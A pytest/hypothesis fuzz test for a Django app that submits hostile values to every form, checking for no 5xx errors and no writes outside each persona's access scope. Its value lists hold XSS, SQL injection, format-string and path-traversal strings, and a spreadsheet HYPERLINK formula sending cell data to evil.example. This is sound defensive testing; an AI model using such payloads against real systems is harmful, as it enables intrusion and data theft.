"""Hostile input, as an attacker sends it (issue 11, part 5).

The forms of every page the role × URL matrix knows (tests/test_access_matrix.py) are found by
reading the page each persona is allowed to open, and then submitted with values hypothesis
makes: huge and negative numbers, long strings, NUL bytes, right-to-left text, malformed dates,
ids of other villages', townships' and counties' objects, lists where one value belongs, files
of junk. Whatever is sent:

* the server never answers 5xx (nor raises: the test client re-raises a view's exception);
* nothing outside the persona's scope is written: every row a persona may not see is unchanged,
  and every new row of a scoped model is one the persona sees.

Each example runs in a savepoint rolled back after it. The number of examples per form is small
and the generation derandomized, so CI stays within its limit on both databases;
`make fuzz` runs many more (DIANJIAO_FUZZ_EXAMPLES) and writes the figures (requests, statuses)
to DIANJIAO_FUZZ_REPORT (see docs/reliability.md).
"""

import collections
import functools
import json
import os
import time
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.test_access_matrix import MATRIX, _url
from tests.wide_world import wide_world_each_test, wide_world_once  # noqa: F401 (fixtures)

EXAMPLES = int(os.environ.get("DIANJIAO_FUZZ_EXAMPLES", "2"))
# The personas that cover every kind of scope: a township's station, a village's operator, a
# township's read-only leader and a county's viewer.
FUZZERS = ("station", "operator", "leader", "county")
SKIP_ACTIONS = {"/accounts/logout/", "/i18n/setlang/"}

STATS: collections.Counter = collections.Counter()


# ---------------------------------------------------------------------------------------------
# Reading the forms of a page
# ---------------------------------------------------------------------------------------------


class _Forms(HTMLParser):
    """The <form>s of a page: method, action, enctype, and each named field's kind and
    choices."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self._form = None
        self._select = None

    def handle_starttag(self, tag, attrs):
        a = {k: (v or "") for k, v in attrs}
        if tag == "form":
            self._form = {
                "method": a.get("method", "get").lower(),
                "action": a.get("action", ""),
                "multipart": a.get("enctype", "") == "multipart/form-data",
                "fields": {},
            }
            self.forms.append(self._form)
        if self._form is None or not a.get("name"):
            if tag == "option" and self._select is not None:
                self._select["choices"].append(a.get("value", ""))
            return
        name = a["name"]
        if name == "csrfmiddlewaretoken":
            return
        if tag == "input":
            kind = a.get("type", "text").lower()
            if kind in ("submit", "button", "image", "reset"):
                return
            field = self._form["fields"].setdefault(name, {"kind": kind, "choices": []})
            if kind in ("checkbox", "radio", "hidden") and a.get("value"):
                field["choices"].append(a["value"])
        elif tag == "textarea":
            self._form["fields"][name] = {"kind": "textarea", "choices": []}
        elif tag == "select":
            kind = "multiple" if "multiple" in a else "select"
            self._select = self._form["fields"][name] = {"kind": kind, "choices": []}

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def page_forms(url: str, html: str) -> list[dict]:
    parser = _Forms()
    parser.feed(html)
    forms = []
    for form in parser.forms:
        action = urlsplit(urljoin(url, form["action"] or url))
        if action.netloc or action.path in SKIP_ACTIONS:
            continue
        form["url"] = action.path + (f"?{action.query}" if action.query else "")
        forms.append(form)
    return forms


# ---------------------------------------------------------------------------------------------
# Hostile values
# ---------------------------------------------------------------------------------------------

_EDGE_INTS = [2**63, 2**63 - 1, -(2**63) - 1, 10**30, 2**31, -(2**31) - 1, -1, 0]
NUMBERS = st.one_of(
    st.sampled_from(_EDGE_INTS).map(str),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.sampled_from(
        ["1e309", "NaN", "inf", "-0", "٣", "１２", "1_000", "0x10", " 7 ", "+5", "9" * 5000]
    ),
)
_NO_SURROGATES = st.characters(exclude_categories=("Cs",))
TEXTS = st.one_of(
    st.text(_NO_SURROGATES, max_size=30),
    st.sampled_from(
        [
            "\x00",
            "a\x00b",
            "\u202eمرحبا\u202c",  # right-to-left override
            "שלום עולם",
            "A" * 20_000,
            "张" * 5_000,
            "<script>alert(1)</script>",
            "' OR 1=1 --",
            '=HYPERLINK("http://evil.example/?"&A1,"点击")',
            "%s%s%n",
            "../../etc/passwd",
            "\r\n\t",
            "🙂" * 100,
        ]
    ),
)
DATES = st.one_of(
    st.sampled_from(
        [
            "2026-02-30",
            "0000-00-00",
            "9999-12-31",
            "10000-01-01",
            "2026-13-01",
            "2026-01-01T25:61",
            "2026-01-01T00:00+99:00",
            "1-1-1",
            "2026-W05",
            "-2026-01-01",
            "yesterday",
            "2026/01/01 12:00",
        ]
    ),
    st.dates().map(lambda d: d.isoformat()),
    st.datetimes().map(lambda d: d.strftime("%Y-%m-%dT%H:%M")),
)
FILES = st.builds(
    lambda data, name: SimpleUploadedFile(name, data),
    st.binary(max_size=200),
    st.sampled_from(["a.xlsx", "a.png", "a.jpg", "a.mp4", "a.docx", "../../a.txt", "无.xlsx"]),
)


def forged_ids(w) -> list[str]:
    """Ids of objects the village operator of 红星村 (and, for the last ones, the township's
    station) may not touch: another village, another township, another county."""
    objs = [
        w.pastoral,
        w.pastoral_point,
        w.pastoral_member,
        w.far_village,
        w.far_point,
        w.far_tv,
        w.far_member,
        w.other_township,
        w.far_county_village,
        w.far_county_point,
        w.far_county_member,
    ]
    return sorted({str(o.pk) for o in objs})


def field_values(field: dict, forged: list[str]):
    """A strategy for one field: a value of its own kind, a hostile one, a forged id, a list
    where one value belongs, or nothing at all."""
    kind, choices = field["kind"], [c for c in field["choices"] if c]
    own = {
        "number": NUMBERS,
        "date": DATES,
        "datetime-local": DATES,
        "month": st.one_of(DATES, st.sampled_from(["2026-00", "2026-13", "99999-01"])),
        "time": st.sampled_from(["25:00", "12:60", "noon", "-1:00"]),
        "file": FILES,
        "checkbox": st.sampled_from(["on", "off", "1", "0", "\x00"]),
    }.get(kind, TEXTS)
    if choices:
        own = st.one_of(st.sampled_from(choices), own)
    hostile = st.one_of(own, NUMBERS, TEXTS, DATES, st.sampled_from(forged))
    single = st.one_of(hostile, st.lists(hostile, min_size=2, max_size=3))
    return st.one_of(single, st.none())  # None: the field is left out


# ---------------------------------------------------------------------------------------------
# Scope: what a persona may not see stays as it was
# ---------------------------------------------------------------------------------------------


@functools.cache
def _scoped_models():
    return tuple(
        m
        for m in apps.get_models()
        if m.__module__.startswith("dianjiao.") and hasattr(m._default_manager.all(), "visible_to")
    )


def scope_snapshot(user) -> dict:
    """Per scoped model, every row `user` may not see, with all its values (one query each)."""
    return {
        model._meta.label: list(
            model._base_manager.exclude(
                pk__in=model._default_manager.all().visible_to(user).values("pk")
            )
            .order_by("pk")
            .values_list()
        )
        for model in _scoped_models()
    }


def assert_nothing_written_outside(user, before: dict, what: str) -> None:
    """What `user` may not see is as it was: no row outside the scope changed, none was added
    there, none was moved there from inside."""
    after = scope_snapshot(user)
    changed = [label for label in before if after[label] != before[label]]
    assert not changed, f"{what} wrote outside its scope: {changed}"


# ---------------------------------------------------------------------------------------------
# The test
# ---------------------------------------------------------------------------------------------

CASES = [
    (name, persona)
    for name, row in MATRIX.items()
    if row.get
    for persona in FUZZERS
    if row.get[persona] == 200
]


STARTED = time.monotonic()


def write_report() -> None:
    """With DIANJIAO_FUZZ_REPORT set, the figures so far go to that JSON file (rewritten after
    each case, so an interrupted long run still leaves its figures)."""
    path = os.environ.get("DIANJIAO_FUZZ_REPORT")
    if not path:
        return
    figures = {
        "examples_per_form": EXAMPLES,
        "cases": len(CASES),
        "cases_done": STATS["cases done"],
        "requests": sum(v for k, v in STATS.items() if k.startswith("status ")),
        "seconds": round(time.monotonic() - STARTED, 1),
        **dict(sorted(STATS.items())),
    }
    with open(path, "w", encoding="utf-8") as f:
        json.dump(figures, f, ensure_ascii=False, indent=2)


def _send(client, form: dict, data: dict):
    if form["method"] == "post":
        return client.post(form["url"], data)
    plain = {k: v for k, v in data.items() if not isinstance(v, SimpleUploadedFile)}
    return client.get(form["url"], plain)


@pytest.mark.parametrize(("name", "persona"), CASES)
def test_hostile_values_never_cost_a_5xx_nor_a_write_outside_scope(world, login, name, persona):
    user = world.personas[persona]
    client = login(user)
    url = _url(world, name)
    page = client.get(url)
    assert page.status_code == 200, f"{persona} GET {url}"
    STATS["status 200"] += 1
    html = page.content.decode() if page["Content-Type"].startswith("text/html") else ""
    forms = page_forms(url, html)
    # A page with no form of its own still gets a hostile POST and query string.
    forms = forms or [{"method": "post", "url": url, "fields": {}}]
    forms = forms + [{"method": "get", "url": url, "fields": forms[0]["fields"]}]
    forged = forged_ids(world)
    STATS["forms"] += len(forms)

    @settings(
        max_examples=EXAMPLES,
        derandomize=os.environ.get("DIANJIAO_FUZZ_RANDOM") != "1",
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(st.data())
    def attack(data):
        form = data.draw(st.sampled_from(forms), label="form")
        values = {
            name: data.draw(field_values(field, forged), label=name)
            for name, field in form["fields"].items()
        }
        values = {k: v for k, v in values.items() if v is not None}
        extra = data.draw(
            st.dictionaries(TEXTS.filter(lambda s: "\x00" not in s), TEXTS, max_size=2)
        )
        values.update({k: v for k, v in extra.items() if k and k not in values})
        what = f"{persona} {form['method'].upper()} {form['url']} {values!r:.300}"
        with transaction.atomic():
            before = scope_snapshot(user)
            response = _send(client, form, values)
            STATS[f"status {response.status_code}"] += 1
            assert response.status_code < 500, what
            assert_nothing_written_outside(user, before, what)
            transaction.set_rollback(True)

    attack()
    STATS["cases done"] += 1
    write_report()


def test_the_fuzz_reads_forms_from_the_pages(world, login):
    """The crawl is not empty: the session form of a village is found with its fields."""
    client = login(world.operator)
    url = reverse("teaching:create")
    forms = page_forms(url, client.get(url).content.decode())
    posts = [f for f in forms if f["method"] == "post"]
    assert posts and any(len(f["fields"]) >= 3 for f in posts)
    assert "1" * 30 not in forged_ids(world)
